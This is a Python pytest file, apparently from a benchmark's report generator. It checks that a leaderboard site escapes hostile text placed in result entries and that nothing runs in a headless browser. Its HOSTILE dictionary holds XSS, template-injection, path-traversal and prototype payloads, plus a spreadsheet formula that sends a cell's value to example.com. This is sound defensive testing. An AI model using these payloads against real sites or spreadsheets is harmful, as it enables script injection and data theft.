"""Published entries are foreign text: whatever they say, the site shows it and nothing else happens."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from rdbench.benchmark.results import slug
from rdbench.report.entries import published
from rdbench.report.leaderboard import write_site

HOSTILE = {
    "script": "<script>window.caught = 1</script>",
    "end of script": "</script><script>window.caught = 2</script>",
    "event handler": '"><img src=x onerror="window.caught = 3">',
    "attribute": '" onmouseover="window.caught = 4" autofocus onfocus="window.caught = 5',
    "link": "javascript:window.caught=6//https://example.com/",
    "frame": "<iframe srcdoc='<script>parent.caught = 7</script>'></iframe><base href=//example.com/>",
    "style": "</style><style>body{display:none}</style><link rel=stylesheet href=//example.com/x.css>",
    "svg": "<svg><script>window.caught = 8</script><animate onbegin=window.caught=9 attributeName=x></svg>",
    "template": "{{ cycler.__init__.__globals__.os.system('false') }}{% raw %}${window.caught=10}",
    "path": "../../../../../../tmp/x/../" + "a" * 300,
    "prototype": "__proto__",
    "formula": '=HYPERLINK("http://example.com/?"&A1)',
    "directions": "\u202etxet\u202c\u0000\u2028\u2029\n\r\t\ufeff",
    "long": "x" * 100_000,
}


def hostile_entry(directory, make_cell, text):
    """An entry that says `text` wherever it may say anything."""
    cell = json.loads(
        make_cell(
            text, text, dataset=text, backbone=text, weights=text, custom=text, options={text: text, "p": text}
        ).model_dump_json()
    )
    cell["provenance"] |= dict.fromkeys(("created", "rdbench", "git_commit", "device", "platform"), text)
    cell["provenance"]["packages"] = {text: text}
    cell["split"]["calibration_source"] = cell["interval"] = cell["predictions_sha256"] = text
    cell["spec"] |= {"method_sha256": text, "weights_sha256": text, "fingerprint": text}
    clean = cell["image"]["clean"]
    clean |= {text: {"value": 0.5, "note": text}, "aurc": {"value": None, "note": text}}
    cell["image"] |= {text: clean, f"{text}:3": clean, f"{text}:4": clean}
    path = directory / slug(text) / f"{slug(text)}.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps({"schema": 1, "cells": [cell]}))


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    from tests.made_up import make_cell

    folder = tmp_path_factory.mktemp("hostile")
    for text in HOSTILE.values():
        hostile_entry(folder / "entries", make_cell, text)
    page = write_site(
        [*published(folder / "entries"), make_cell("honest", conditions=("clean", "noise:3"))], folder / "out" / "site"
    )
    assert {path.name for path in folder.iterdir()} == {"entries", "out"}
    assert {path.name for path in (folder / "out").iterdir()} == {"site"}
    return page


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = set()
        self.attributes = set()

    def handle_starttag(self, tag, attrs):
        self.found.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        for name, value in attrs:
            if name in ("href", "src"):
                assert not (value or "").lower().startswith(("javascript", "http", "//"))


def tags_of(path):
    parser = Tags()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def test_hostile_text_makes_no_tag_and_no_attribute(site, tmp_path, make_cell):
    honest = write_site([make_cell("honest", conditions=("clean", "noise:3", "noise:4"))], tmp_path / "honest")
    for page, model in [(site, honest)] + [
        (path, next((honest.parent / "methods").glob("*.html"))) for path in (site.parent / "methods").glob("*.html")
    ]:
        tags, expected = tags_of(page), tags_of(model)
        assert tags.found <= expected.found | {"abbr", "i", "h3", "wbr"}, page.name
        assert not {name for _, name in tags.attributes - expected.attributes} - {
            "aria-hidden",
            "viewbox",
            "d",
            "title",
        }


def test_every_hostile_text_is_shown(site):
    shown = site.read_text(encoding="utf-8")
    for text in HOSTILE.values():
        start = text.strip("\u202e").split("\u202c")[0][:40]
        escaped = start.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert escaped.replace('"', "&#34;").replace("'", "&#39;")[:30] in shown


def test_numbers_of_any_size_leave_a_page(make_cell, tmp_path):
    for i, number in enumerate((1e308, -1e308, 1e-320, -5.0)):
        cell = make_cell(f"m{i}", figures={"augrc": number, "image_auroc": number, "failures": number})
        page = write_site([cell, make_cell("deterministic")], tmp_path / str(i))
        assert len(page.read_text()) < 200_000


def test_in_a_browser_nothing_happens(site):
    from tests.report.browser import Browser, Select, new_chrome

    chrome = new_chrome(site.parent / "profile")
    try:
        browser = Browser(chrome).open(site)
        boards = len(browser.all("[name=results] option"))
        assert boards == len(HOSTILE) + 1
        for board in range(1, boards):
            browser.change(lambda i=board: Select(browser.one("[name=results]")).select_by_index(i))
            browser.change(lambda: Select(browser.one("[name=images]")).select_by_index(1))
        assert browser.one("body").is_displayed()
        assert chrome.execute_script("return window.caught") is None
        assert browser.complaints() == []
        assert [url for url in browser.requests() if not url.startswith(site.parent.as_uri())] == []
        for path in (site.parent / "methods").glob("*.html"):
            browser.open(path)
            assert chrome.execute_script("return window.caught") is None
            assert browser.complaints() == []
    finally:
        chrome.quit()
